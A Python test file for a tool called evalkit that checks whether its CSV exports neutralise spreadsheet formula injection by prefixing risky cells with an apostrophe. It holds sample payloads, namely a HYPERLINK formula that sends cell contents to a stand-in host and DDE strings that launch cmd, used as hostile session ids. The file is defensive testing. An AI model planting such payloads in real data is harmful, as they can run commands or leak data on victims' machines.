"""Issue 24, finding 4: a CSV cell a spreadsheet would run as a formula.

``score --all``, ``verify --all --format csv`` and ``judge --rules`` wrote a session id such as
``=HYPERLINK(...)`` as a formula cell. Every text cell that begins with ``= + - @``, a tab or a
carriage return is now written with a leading ``'`` (:func:`evalkit.files.escape.csv_text`),
in every CSV evalkit writes; numbers are left as they are.
"""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from record_factory import TIMESTAMP

from evalkit.cli.main import main
from evalkit.files.escape import csv_text

HOSTILE = {
    "=": '=HYPERLINK("https://example.invalid/?x="&A1,"open")',
    "+": "+cmd|' /C calc'!A0",
    "-": "-2+3+cmd|' /C calc'!A0",
    "@": "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t": "\t=1+1",
    "\r": "\r=1+1",
}


STARTS = tuple(HOSTILE)


def test_the_helper_neutralizes_exactly_the_formula_starts() -> None:
    from evalkit.files.escape import FORMULA_STARTS, csv_text, spreadsheet_cell

    assert set(FORMULA_STARTS) == set(STARTS)
    for start, text in HOSTILE.items():
        assert text.startswith(start)
        assert spreadsheet_cell(text) == "'" + text
    for safe in ("main-1", "a=b", " =1", "'=1", "", "x-1"):
        assert spreadsheet_cell(safe) == safe
    for number in (-1, -0.5, 0, 3.25, None):
        assert spreadsheet_cell(number) == number
    rows = list(csv.reader(io.StringIO(csv_text(["a", "b"], [["=1", -1]]), newline="")))
    assert rows == [["a", "b"], ["'=1", "-1"]]
    # a carriage return inside a cell is quoted: a bare one would start a row in a spreadsheet
    text = csv_text(["a", "b"], [["x\r=1+1", "y"]])
    assert text == 'a,b\n"x\r=1+1",y\n'
    assert list(csv.reader(io.StringIO(text, newline=""))) == [["a", "b"], ["x\r=1+1", "y"]]


def _ids(path: Path) -> list[str]:
    """The session ids of the lines that parse (the generator writes a few bad lines too)."""
    out = []
    for line in path.read_text(encoding="utf-8").splitlines():
        try:
            value = json.loads(line)
        except ValueError:
            continue
        if isinstance(value, dict) and isinstance(value.get("session_id"), str):
            out.append(value["session_id"])
    return out


def _ledger(tmp_path: Path) -> tuple[Path, list[str]]:
    """A seeded generated ledger whose six session ids start with each formula start."""
    from evalkit.simulate import simulate_metrics_dir

    metrics = tmp_path / "metrics"
    simulate_metrics_dir(metrics, n_sessions=6, seed=11, score=False)
    old = list(dict.fromkeys(_ids(metrics / "sessions.jsonl")))
    new = list(HOSTILE.values())
    assert len(old) >= len(new)
    for name in ("sessions.jsonl", "events.jsonl"):
        text = (metrics / name).read_text(encoding="utf-8")
        for before, after in zip(old, new, strict=False):
            text = text.replace(json.dumps(before), json.dumps(after))
        (metrics / name).write_text(text, encoding="utf-8")
    return metrics, new


def _cells(text: str, column: str) -> set[str]:
    """The column's cells, once none of them is a formula a spreadsheet would run."""
    cells = {row[column] for row in csv.DictReader(io.StringIO(text, newline=""))}
    assert not [c for c in cells if c.startswith(STARTS)], column
    return cells


def test_every_csv_evalkit_writes_neutralizes_a_formula_session_id(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    metrics, ids = _ledger(tmp_path)
    neutral = {"'" + i for i in ids}

    assert main(["score", "--all", "--metrics-dir", str(metrics), "--no-progress"]) == 0
    assert neutral <= _cells(capsys.readouterr().out, "session_id")
    out = tmp_path / "fleet.csv"
    fleet = ["score", "--all", "--fleet", str(metrics), "--no-progress", "--out", str(out)]
    assert main(fleet) == 0
    with out.open(encoding="utf-8", newline="") as handle:  # a quoted \r stays one
        assert neutral <= _cells(handle.read(), "session_id")

    journal = ["score", "--all", "--metrics-dir", str(metrics), "--no-progress"]
    assert main([*journal, "--journal", "--timestamp", TIMESTAMP]) == 0
    assert neutral <= _cells(capsys.readouterr().out, "session_id")
    assert main(["verify", "--all", "--metrics-dir", str(metrics), "--format", "csv"]) == 0
    text = capsys.readouterr().out
    assert neutral <= _cells(text, "session_id")
    run_ids = {i + "-eval-" for i in neutral}
    assert len({c for c in _cells(text, "run_id") if c.startswith(tuple(run_ids))}) == len(ids)
    assert main(["judge", "--rules", "--metrics-dir", str(metrics)]) == 0
    labelled = _cells(capsys.readouterr().out, "item_id")
    assert len({c for c in labelled if c.startswith(tuple(run_ids))}) == len(ids)


def test_monitor_csv_neutralizes_a_formula_cell(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """``monitor --format csv`` (merged from the monitor branch) names the session a band's
    state was first reached at: a hostile session id there is written as text too."""
    metrics, ids = _ledger(tmp_path)
    argv = ["monitor", "--metrics-dir", str(metrics), "--format", "csv", "--no-progress"]
    assert main([*argv, "--floor", "0"]) in (0, 4)
    text = capsys.readouterr().out
    sessions = _cells(text, "since_session_id")  # no cell is a formula
    assert sessions & {"'" + i for i in ids}, sessions  # and the hostile ones are there, as text


_CELLS = (
    st.text(alphabet=st.sampled_from(list('ab,"=\r\n\t \ud800')), max_size=6)
    | st.integers()
    | st.floats()
    | st.none()
    | st.booleans()
)


@settings(max_examples=600, deadline=None)
@given(st.lists(st.lists(_CELLS, max_size=3), max_size=6))
def test_the_table_is_written_as_row_by_row_writing_writes_it(rows: list[list[object]]) -> None:
    """csv_text quotes and joins the cells itself; the second implementation is the csv
    module writing one row at a time (CR LF line ends, so that a cell holding either is
    quoted, then each row's CR LF made LF): rows of any length, a row of one empty cell,
    floats, None and booleans as ``csv.writer`` writes them."""
    from evalkit.files.escape import escape_surrogates, spreadsheet_cell

    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\r\n")
    expected = ""
    for row in [["h1", "h2"], *rows]:
        buffer.seek(0)
        buffer.truncate()
        writer.writerow([spreadsheet_cell(cell) for cell in row])
        expected += buffer.getvalue()[:-2] + "\n"
    assert csv_text(["h1", "h2"], rows) == escape_surrogates(expected)
    parsed = list(csv.reader(io.StringIO(csv_text(["h1", "h2"], rows), newline="")))
    assert len(parsed) == len(rows) + 1
